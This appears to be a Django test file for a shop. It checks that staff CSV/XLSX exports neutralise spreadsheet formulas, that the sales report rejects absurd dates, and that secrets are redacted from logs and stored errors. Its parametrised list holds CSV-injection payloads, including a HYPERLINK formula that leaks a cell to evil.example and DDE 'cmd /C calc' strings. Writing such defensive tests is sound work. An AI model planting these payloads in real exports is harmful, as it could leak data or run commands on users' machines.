"""Staff exports cannot carry a formula into the owner's spreadsheet; tokens and passwords
never reach logs, stored error texts or e-mails; the sales report refuses absurd dates."""

import csv
import io
import json
import logging
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django_tasks_db.models import DBTaskResult
from openpyxl import load_workbook

from checkout.models import Cart, CartLine
from checkout.orders import place_order
from checkout.status import change_status
from notifications.models import Notification
from notifications.sending import deliver_notifications
from tests.checkout.test_bakong_client import control
from tests.factories import make_category, make_product

# A bot token and a Bakong JWT shaped like real ones (neither is valid anywhere).
BOT_TOKEN = "7251839046:AAH3kQ9xZr2mLpW8vTnB5cYdE1fGhJ0sK4u"
BOT_SECRET = BOT_TOKEN.split(":")[1]
BAKONG_JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJkYXRhIjp7ImlkIjoiYTFiMmMzZDRlNWY2In0sImlhdCI6MT"
    "cwMDAwMDAwMCwiZXhwIjo0MTAyNDQ0ODAwfQ.Qm9ndXNTaWduYXR1cmVGb3JUZXN0c09ubHlfeHl6MTIz"
)
BAKONG_SECRET_PART = BAKONG_JWT.split(".")[2]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def superuser_client():
    user = User.objects.create_superuser("owner", "owner@example.com", "pw-123456")
    client = Client()
    client.force_login(user)  # tests/conftest.py gives admin users their TOTP on login
    return client


def order_for(shop, details, name, address="No. 1, Street 240", stock=10):
    product = make_product(make_category(), title="Celadon Bowl", price="9.00", stock=stock)
    cart = Cart.objects.create()
    CartLine.objects.create(cart=cart, product=product, quantity=2)
    details.name = name
    details.address = address
    return place_order(cart, details, shop)[0]


# --- CSV / XLSX exports ---------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("payload", FORMULAS)
def test_staff_orders_csv_neutralises_formulas(shop, details, payload):
    order = order_for(shop, details, name=payload, address=payload)
    client = superuser_client()
    response = client.get(reverse("orders:index"), {"export": "csv"})
    assert response.status_code == 200, response.get("Location")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    (row,) = rows
    assert row["Number"] == order.number
    assert row["Name"] == "'" + payload
    assert row["Address"] == "'" + payload
    for heading, cell in row.items():
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (heading, cell)
    # Numbers stay numbers.
    assert row["Total"] == "19.50" and row["Subtotal"] == "18.00"


@pytest.mark.django_db
def test_ordinary_values_are_exported_unchanged(shop, details):
    order_for(shop, details, name="Sok Dara")
    client = superuser_client()
    response = client.get(reverse("orders:index"), {"export": "csv"})
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["Name"] == "Sok Dara" and row["Address"] == "No. 1, Street 240"
    assert row["Phone"] == "'+85512345678"  # text that starts with + is kept as text


@pytest.mark.django_db
def test_staff_orders_xlsx_holds_formulas_as_plain_text(shop, details):
    order_for(shop, details, name=FORMULAS[0])
    client = superuser_client()
    response = client.get(reverse("orders:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert FORMULAS[0] in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


# --- sales report -----------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    [
        {"start": "9999-12-31", "end": "9999-12-31"},
        {"start": "9999-12-31"},
        {"end": "9999-12-31"},
        {"start": "0001-01-01"},
        {"start": "0001-01-01", "end": "9999-12-31"},
        {"start": "2026-02-30"},
        {"start": "2026-01-01", "end": "99999-01-01"},
        {"start": "1" * 5000},
    ],
)
def test_sales_report_refuses_absurd_dates_with_a_message(shop, query):
    client = superuser_client()
    page = client.get(reverse("sales_report:index"), query)
    assert page.status_code == 200
    text = page.content.decode()
    assert "Choose a date between" in text or "Enter a valid date" in text
    assert "Showing" in text  # and the usual period under the message

    csv_response = client.get(reverse("sales_report:index"), {**query, "format": "csv"})
    assert csv_response.status_code == 400
    assert csv_response["Content-Type"].startswith("text/plain")
    assert csv_response.content.decode().strip()


@pytest.mark.django_db
@pytest.mark.parametrize("query", [{}, {"start": "", "end": ""}, {"start": "2026-03-01"}])
def test_sales_report_empty_dates_mean_the_usual_period(shop, query):
    client = superuser_client()
    page = client.get(reverse("sales_report:index"), query)
    assert page.status_code == 200
    assert "Choose a date" not in page.content.decode()


@pytest.mark.django_db
def test_sales_report_shortens_a_huge_range_and_says_so(shop):
    client = superuser_client()
    page = client.get(reverse("sales_report:index"), {"start": "2000-01-01", "end": "2026-01-01"})
    assert page.status_code == 200
    text = page.content.decode()
    assert "at most 366 days" in text and "2000-12-31" in text
    response = client.get(
        reverse("sales_report:index"),
        {"start": "2000-01-01", "end": "2026-01-01", "format": "csv"},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 1 + 366 + 1  # heading, every day, total
    assert rows[1][0] == "2000-01-01" and rows[-2][0] == "2000-12-31"


# --- secrets ------------------------------------------------------------------------------


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class EchoingGateway(BaseHTTPRequestHandler):
    """An error page that quotes the request line back, as many proxies and gateways do."""

    def log_message(self, format, *args):
        pass

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.server.kind == "json":
            status, kind = 502, "application/json"
            body = json.dumps(
                {"ok": False, "error_code": 502, "description": f"Bad Gateway: POST {self.path}"}
            )
        else:
            status, kind = 500, "text/html"
            body = f"<html><body><h1>500</h1><p>POST {self.path} failed</p></body></html>"
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture
def gateway():
    servers = []

    def start(kind):
        server = ThreadingHTTPServer(("127.0.0.1", 0), EchoingGateway)
        server.daemon_threads = True
        server.kind = kind
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}"

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def assert_nowhere(secret, caplog, smtp=None):
    logged = caplog.text + "\n".join(record.getMessage() for record in caplog.records)
    assert secret not in logged
    for notification in Notification.objects.all():
        assert secret not in notification.last_error
        assert secret not in notification.body_text + notification.body_html
    for message in smtp.messages if smtp is not None else []:
        assert secret not in message.as_string()
    for result in DBTaskResult.objects.all():
        assert secret not in json.dumps(result.return_value) + result.traceback


@pytest.mark.django_db
@pytest.mark.parametrize("where", ["unreachable", "html", "json"])
def test_a_telegram_failure_never_stores_or_logs_the_bot_token(
    settings, shop, details, smtp, caplog, gateway, where
):
    base = {
        "unreachable": lambda: f"http://127.0.0.1:{free_port()}",
        "html": lambda: gateway("html"),
        "json": lambda: gateway("json"),
    }[where]()
    settings.TELEGRAM_API_BASE_URL = base
    settings.TELEGRAM_BOT_TOKEN = BOT_TOKEN
    settings.TELEGRAM_CHAT_ID = "-1001234567890"
    order = order_for(shop, details, name="Sok Dara")
    change_status(order.pk, "paid")  # queues the receipt, the owner's e-mail and Telegram
    caplog.set_level(logging.DEBUG)

    assert deliver_notifications() == {"sent": 3, "failed": 1}

    assert_nowhere(BOT_SECRET, caplog, smtp)
    failed = Notification.objects.get(channel="telegram")
    assert failed.state == "pending" and failed.last_error.startswith("TelegramError")
    assert "Could not send" in caplog.text
    assert len(smtp.messages) == 3  # the e-mails went out; Telegram waits


@pytest.mark.django_db
def test_the_telegram_stand_in_still_receives_messages(settings, shop, details, telegram):
    order = order_for(shop, details, name="Sok Dara")
    change_status(order.pk, "paid")
    telegram.fail_next = 1
    assert deliver_notifications()["failed"] == 1
    failed = Notification.objects.get(channel="telegram")
    assert "Internal Server Error" in failed.last_error
    from datetime import timedelta

    from django.utils import timezone

    assert deliver_notifications(now=timezone.now() + timedelta(hours=1))["sent"] == 1
    assert len(telegram.messages) == 1


DB_TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend", "QUEUES": ["default"]}}


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    "how",
    [
        "token with a trailing newline",  # as pasted into an env_file: requests quotes it back
        "unreachable",
        "500 page",
    ],
)
def test_a_bakong_failure_never_stores_or_logs_the_api_token(
    settings, shop, details, bakong, caplog, how
):
    from checkout.tasks import sweep_payments_task

    order_for(shop, details, name="Sok Dara")  # a pending KHQR payment for the sweep
    settings.BAKONG_API_TOKEN = BAKONG_JWT
    bakong.state.token = BAKONG_JWT
    if how == "token with a trailing newline":
        settings.BAKONG_API_TOKEN = BAKONG_JWT + "\n"
    elif how == "unreachable":
        settings.BAKONG_API_BASE_URL = f"http://127.0.0.1:{free_port()}"
    else:
        control(bakong, "/sandbox/mode/", {"mode": "500"})
    settings.TASKS = DB_TASKS
    caplog.set_level(logging.DEBUG)

    sweep_payments_task.enqueue()
    call_command("shop_worker", batch=True, no_scheduler=True, startup_delay=False, verbosity=0)

    assert_nowhere(BAKONG_SECRET_PART, caplog)
    result = DBTaskResult.objects.get()
    assert result.status == "SUCCESSFUL" and result.return_value["retry_in"] == 10
    assert result.return_value["error"].startswith("BakongUnavailable")
    assert "Payment sweep failed" in caplog.text


def test_the_console_log_handler_redacts_secrets(settings):
    """The second layer: whatever any library logs, the shop's log handler writes it with
    the configured secrets (and anything shaped like a bot token) replaced."""
    settings.BAKONG_API_TOKEN = BAKONG_JWT
    settings.EMAIL_HOST_PASSWORD = "gmail-app-password-abcd"  # noqa: S105
    root = logging.getLogger()
    console = next(h for h in root.handlers if type(h) is logging.StreamHandler)
    stream = io.StringIO()
    original = console.setStream(stream)
    try:
        logger = logging.getLogger("some.library")
        logger.warning(
            "POST https://api.telegram.org/bot%s/sendMessage with %s, %s, redis://:%s@redis/0",
            BOT_TOKEN,
            BAKONG_JWT,
            "gmail-app-password-abcd",
            "redis-secret-pw",
        )
        try:
            raise RuntimeError(f"failed with Authorization: Bearer {BAKONG_JWT}")
        except RuntimeError:
            logger.exception("It broke")
    finally:
        console.setStream(original)
    written = stream.getvalue()
    assert "sendMessage" in written and "It broke" in written
    for secret in (
        BOT_SECRET,
        BAKONG_SECRET_PART,
        "gmail-app-password",
        "db-password",
        "redis-secret",
    ):
        assert secret not in written, secret
    assert "[redacted]" in written
